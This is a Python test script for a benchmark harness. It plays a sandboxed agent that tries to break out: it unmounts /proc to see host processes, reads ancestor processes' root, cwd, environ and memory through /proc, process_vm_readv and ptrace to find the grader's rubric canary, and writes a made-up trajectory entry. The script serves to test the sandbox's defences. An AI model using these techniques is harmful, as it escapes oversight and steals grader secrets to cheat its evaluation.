"""Attacks the harness through its processes, not its files: a run that skipped Landlock
(``--unconfined``) tries to take the harness's material out of the harness itself.

The run lives in a pid and mount namespace of its own with a fresh ``/proc``; beneath it
is the host's. The agent first tries to take that away:

- ``umount-proc``: ``umount2("/proc", MNT_DETACH)``, which reveals the host ``/proc``
  (every process, the harness's included) to a root agent that kept its capabilities;
- ``userns-umount``: the same from a child that made a user and mount namespace of its
  own (full capabilities there), in case the kernel let it unmount a copy;

then walks its ancestors in whatever ``/proc`` it now sees (each named ``ns-init`` when
it is the run's own namespace init, ``outside`` otherwise) and, for each, tries:

- ``root``: ``/proc/PID/root`` + ATTACK_TARGET (a task file, opened through the other
  process's root, the route an audit of the run's own mounts does not see);
- ``cwd``: a listing of ``/proc/PID/cwd``;
- ``environ``: ``/proc/PID/environ``;
- ``mem``: ``/proc/PID/mem`` read over its anonymous and heap mappings, searched for
  the canary, ATTACK_CANARY_HEX decoded (a string only the harness holds: the task's rubric);
- ``vm-readv``: ``process_vm_readv`` of the same mappings (no file at all);
- ``ptrace``: ``PTRACE_SEIZE`` (then detached at once).

Prints one JSON object: ``umount-proc``/``userns-umount`` as ``"got ..."`` or the error,
then per ``ROLE:PID:technique`` the outcome, and ``canary`` ("got" with where it was
found, or "absent"). It also does the task honestly (sum-numbers), so only the defence
stands between it and a full score.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import sys

MNT_DETACH = 2
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
PTRACE_DETACH = 17
PTRACE_SEIZE = 0x4206
CHUNK = 1 << 20
REGION_CAP = 256 << 20
TOTAL_CAP = 1 << 30

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.process_vm_readv.restype = ctypes.c_ssize_t


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def attempt(results: dict[str, str], key: str, action: object) -> None:
    try:
        got = action()  # type: ignore[operator]
        results[key] = f"got {got!r}"[:160] if got else "empty"
    except OSError as exc:
        results[key] = f"denied {exc.__class__.__name__} {exc.errno}"
    except Exception as exc:
        results[key] = f"failed {exc.__class__.__name__}"


def umount_proc() -> bytes:
    if libc.umount2(b"/proc", MNT_DETACH) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return b"unmounted"


def userns_umount() -> bytes:
    """In a child: a user and mount namespace of its own, then the unmount there."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        code = 0
        if (
            libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0
            or libc.umount2(b"/proc", MNT_DETACH) != 0
        ):
            code = 100 + ctypes.get_errno()
        else:
            os.write(write_end, b"unmounted")
        os._exit(code)
    os.close(write_end)
    _, status = os.waitpid(pid, 0)
    got = os.read(read_end, 64)
    os.close(read_end)
    code = os.waitstatus_to_exitcode(status)
    if code >= 100:
        raise OSError(code - 100, os.strerror(code - 100))
    return got


def stat_fields(pid: int) -> list[str]:
    with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as handle:
        return handle.read().rsplit(")", 1)[1].split()


def cmdline(pid: int) -> bytes:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def ancestors() -> list[int]:
    """This process's ancestors in the /proc it sees now (its own pid there first)."""
    try:
        pid = int(os.readlink("/proc/self"))
    except (OSError, ValueError):
        return []
    chain = []
    while True:
        try:
            parent = int(stat_fields(pid)[1])
        except (OSError, IndexError, ValueError):
            break
        if parent <= 0:
            break
        chain.append(parent)
        pid = parent
    return chain


def regions(pid: int) -> list[tuple[int, int]]:
    found = []
    with open(f"/proc/{pid}/maps", encoding="ascii", errors="replace") as handle:
        for line in handle:
            fields = line.split()
            name = fields[5] if len(fields) > 5 else ""
            if "r" not in fields[1] or (name and name != "[heap]" and not name.startswith("[anon")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            found.append((start, min(end, start + REGION_CAP)))
    return found


def scan(pid: int, canary: bytes, reader: object) -> bytes:
    """Search ``pid``'s heap and anonymous memory for ``canary`` with ``reader``."""
    try:
        spans = regions(pid)
    except OSError:
        spans = []
    total = 0
    readable = 0
    for start, end in spans:
        for offset in range(start, end, CHUNK):
            size = min(CHUNK, end - offset)
            total += size
            if total > TOTAL_CAP:
                return b"read %d bytes" % readable if readable else b""
            try:
                data = reader(offset, size)  # type: ignore[operator]
            except OSError:
                if not readable:
                    raise
                data = b""
            readable += len(data)
            if canary and canary in data:
                return b"canary at %#x" % (offset + data.index(canary))
    if not readable and spans:
        raise OSError(13, "nothing readable")
    return b"read %d bytes" % readable if readable else b""


def mem_reader(pid: int) -> object:
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)

    def read(offset: int, size: int) -> bytes:
        return os.pread(fd, size, offset)

    return read


def vm_reader(pid: int) -> object:
    def read(offset: int, size: int) -> bytes:
        buffer = ctypes.create_string_buffer(size)
        local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), size)
        remote = IoVec(offset, size)
        got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got < 0:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
        return buffer.raw[:got]

    return read


def seize(pid: int) -> bytes:
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return b"seized"


def read_file(path: str) -> bytes:
    with open(path, "rb") as handle:
        return handle.read(64)


def main() -> int:
    results: dict[str, str] = {}
    target = os.environ.get("ATTACK_TARGET", "")
    # Hex in the environment: the raw canary lives only in the harness's memory.
    canary = bytes.fromhex(os.environ.get("ATTACK_CANARY_HEX", ""))
    attempt(results, "umount-proc", umount_proc)
    attempt(results, "userns-umount", userns_umount)
    found: list[str] = []
    for pid in ancestors():
        role = "ns-init" if b"benchguard-init" in cmdline(pid) else "outside"
        tag = f"{role}:{pid}:"
        attempt(results, tag + "root", lambda p=pid: read_file(f"/proc/{p}/root{target}"))
        attempt(results, tag + "cwd", lambda p=pid: "/".join(sorted(os.listdir(f"/proc/{p}/cwd"))))
        attempt(results, tag + "environ", lambda p=pid: read_file(f"/proc/{p}/environ"))
        attempt(results, tag + "mem", lambda p=pid: scan(p, canary, mem_reader(p)))
        attempt(results, tag + "vm-readv", lambda p=pid: scan(p, canary, vm_reader(p)))
        attempt(results, tag + "ptrace", lambda p=pid: seize(p))
        found += [key for key in (tag + "mem", tag + "vm-readv") if "canary at" in results[key]]
    results["canary"] = f"got {found}" if found else "absent"
    line = {"name": "bash", "args": {"command": "cat numbers.txt"}, "status": "completed"}
    with open(os.environ["BENCHGUARD_TRAJECTORY"], "a", encoding="utf-8") as channel:
        channel.write(json.dumps(line) + "\n")
    total = 0
    if os.path.exists("numbers.txt"):
        with open("numbers.txt", encoding="utf-8") as numbers:
            total = sum(int(line) for line in numbers if line.strip())
    with open("answer.txt", "w", encoding="utf-8") as handle:
        handle.write(f"{total}\n")
    print(json.dumps(results, sort_keys=True))
    return 0


if __name__ == "__main__":
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    sys.exit(main())
